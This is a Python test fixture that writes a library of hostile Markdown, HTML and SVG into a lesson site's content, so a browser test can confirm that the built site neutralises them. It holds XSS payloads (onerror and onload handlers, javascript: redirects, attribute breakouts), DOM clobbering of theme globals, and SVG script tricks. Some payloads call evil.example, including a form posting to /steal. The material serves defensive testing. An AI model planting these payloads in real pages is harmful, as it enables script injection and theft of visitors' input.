"""A library with at least one attack per class of issue 10, written for this project.

Every payload, if it ever ran, would open a dialog (``alert``), request something from
``evil.example`` (another origin), or navigate to a ``javascript:`` URL; the browser test
watches for all three. The classes:

1. page metadata from a body (template, redirect, tags, description, author, search);
2. heading ids and attribute lists that break out of their attribute;
3. DOM clobbering of the theme's ``__config``, ``__search``... and its classes;
4. SVG: an upper-case extension, namespace prefixes, foreignObject, animation of href, CSS that loads;
5. files outside cartridges/ and rubrics/, unreferenced and linked files, a linked cartridge folder;
6. (denial of service: tests/test_limits.py; a hostile file is never rendered, so it cannot be in a built site);
7. smaller holes: ``\\\\host`` images, protocol-relative images, ``$a<b$``.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from conftest import copy_library

EVIL = "https://evil.example"

METADATA_BODY = """template: redirect.html
redirect: javascript:alert('class1-redirect')
location: javascript:alert('class1-location')
description: <img src=x.png alt=x onerror=alert('class1-description')>
author: <img src=x.png alt=x onerror=alert('class1-author')>
tags: [<img src=x.png alt=x onerror=alert('class1-tag')>]
search:
  boost: 1000
---
title: <script>alert('class1-title')</script>
hide: [navigation]
---

## Warm-up (5 minutes)

Body text after metadata-looking lines.
"""

HEADING_IDS = """## Launch {#launch" onfocus="alert('class2-onfocus')" autofocus="}

## Explore {: id='x"><img src=x.png alt=x onerror=alert(`class2-img`)>' }

## Synthesis {#__search .md-search onclick="alert('class2-click')"}

Text {: #skip onmouseover="alert('class2-para')" }
"""

CLOBBER = f"""<div id="__config">{{"base": "{EVIL}", "features": ["navigation.instant", "content.tooltips"], "search": "{EVIL}/worker.js", "translations": {{}}}}</div>

<form id="__search" name="search" action="{EVIL}/steal"><input name="query"></form>

<img name="getElementById" src="x.png" alt="clobber the document">

<span id="__drawer" class="md-header md-dialog">Fake site header</span>

## Settings {{#__config}}
"""

SMALL_HOLES = f"""![A picture](\\\\\\\\evil.example/track.png)

<img src="//evil.example/track.png" alt="protocol-relative">

<img src="/\\evil.example/track.png" alt="slash-backslash">

<img srcset="{EVIL}/a.png 1x" src="x.png" alt="srcset">

<a href="{EVIL}/page" ping="{EVIL}/ping">A link out (navigation is allowed; the ping is not)</a>

If $a<b$ then $b>a$.

<p style="background: url({EVIL}/bg.png)">styled</p>
"""

SVGS = {
    "Upper.SVG": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('class4-upper')</script></svg>",
    "prefixed.svg": "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert('class4-prefixed')</s:script></s:svg>",
    "foreign.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100\" height=\"100\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x.png\" alt=\"x\" onerror=\"alert('class4-foreign')\"/></body></foreignObject></svg>",
    "animate.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><animate attributeName=\"href\" values=\"javascript:alert('class4-animate')\"/><text y=\"20\">click</text></a><set attributeName=\"onmouseover\" to=\"alert('class4-set')\"/></svg>",
    "import.svg": f"<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url({EVIL}/x.css); rect {{ fill: \\75 rl({EVIL}/fill.png) }}</style><rect width=\"10\" height=\"10\"/></svg>",
    "onload.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('class4-onload')\"><rect width=\"1\" height=\"1\"/></svg>",
}


def _in_a_lesson(payload: str) -> str:
    """A payload placed inside a lesson (format v2): its '## ' headings become '#### ' (a part's own headings), and a
    '---' line gets a blank line above it, so it stays a rule instead of turning the lines above into a heading."""
    return re.sub(r"^## ", "#### ", payload, flags=re.M).replace("\n---\n", "\n\n---\n")


def write_attack_library(target: Path) -> Path:
    repo = copy_library(target)
    content = repo / "content"
    base = content / "cartridges/fixture-sharing"
    source = (base / "index.md").read_text(encoding="utf-8")
    head, _, guide = source.partition("\n---\n")
    head = head.replace("status: approved", "status: draft")  # the payloads' alt="x" and the like are then warnings, as for any draft

    def cartridge(name: str, body: str, handout: str | None = None, files: dict[str, str] | None = None) -> Path:
        """A lesson with ``body`` as its Overview (teacher text) and ``handout`` in its warm-up's Student task (on every page)."""
        folder = content / "cartridges" / name
        folder.mkdir()
        lesson = guide.replace("### Student task\n\n", "### Student task\n\n" + _in_a_lesson(handout) + "\n\n", 1) if handout is not None else guide
        overview = "## Overview\n\n" + _in_a_lesson(body) + "\n\n" if body.strip() else ""
        (folder / "index.md").write_text(head.replace("id: fixture-sharing", f"id: {name}") + "\n---\n\n" + overview + lesson.lstrip("\n"), encoding="utf-8")
        shutil.copy(base / "sharing-cards.pdf", folder)
        (folder / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
        for file, text in (files or {}).items():
            (folder / file).write_text(text, encoding="utf-8")
        return folder

    # 1. metadata from a body: a lesson's overview and student task, and a rubric without a summary
    cartridge("attack-metadata", METADATA_BODY, handout=METADATA_BODY)
    rubric = (content / "rubrics/fixture-rubric.md").read_text(encoding="utf-8")
    rubric_head, _, _ = rubric.partition("\n---\n")
    (content / "rubrics/attack-metadata-rubric.md").write_text(
        "\n".join(line for line in rubric_head.replace("id: fixture-rubric", "id: attack-metadata-rubric").split("\n") if not line.startswith("summary:")) + "\n---\n" + METADATA_BODY,
        encoding="utf-8",
    )
    # 2. heading ids and attribute lists, on a guide and on a handout
    cartridge("attack-heading-ids", HEADING_IDS, handout=HEADING_IDS)
    # 3. DOM clobbering
    cartridge("attack-clobbering", CLOBBER, handout=CLOBBER)
    # 4. SVG, each shown by the guide
    shows = "\n\n".join(f"![An attack image {name}]({name})" for name in SVGS)
    cartridge("attack-svg", shows, files=SVGS)
    # 5. files outside cartridges/ and rubrics/, unreferenced files, a linked cartridge folder
    (content / "evil.html").write_text(f"<script>alert('class5-html')</script><img src='{EVIL}/x.png'>", encoding="utf-8")
    (content / "notes").mkdir()
    (content / "notes/page.md").write_text("# Notes\n\n<script>alert('class5-md')</script>\n", encoding="utf-8")
    (content / "contribute/extra.md").write_text("---\ntemplate: redirect.html\nlocation: javascript:alert('class5-extra')\n---\n", encoding="utf-8")
    unreferenced = cartridge("attack-files", "")
    (unreferenced / "unlisted.svg").write_text(SVGS["onload.svg"], encoding="utf-8")
    (unreferenced / "unlisted.txt").write_text("never published", encoding="utf-8")
    outside = target.parent / "outside-cartridge"
    shutil.copytree(base, outside)
    (outside / "index.md").write_text((outside / "index.md").read_text(encoding="utf-8").replace("id: fixture-sharing", "id: attack-linked-folder"), encoding="utf-8")
    (content / "cartridges/attack-linked-folder").symlink_to(outside)
    # 7. smaller holes
    cartridge("attack-small-holes", SMALL_HOLES, handout=SMALL_HOLES)
    config = (repo / "mkdocs.yml").read_text(encoding="utf-8").replace("  - mathhub:\n", "  - mathhub:\n      disallowed_html: warn\n").replace("  - mathhub\n", "  - mathhub:\n      disallowed_html: warn\n")
    (repo / "mkdocs.yml").write_text(config, encoding="utf-8")
    return repo
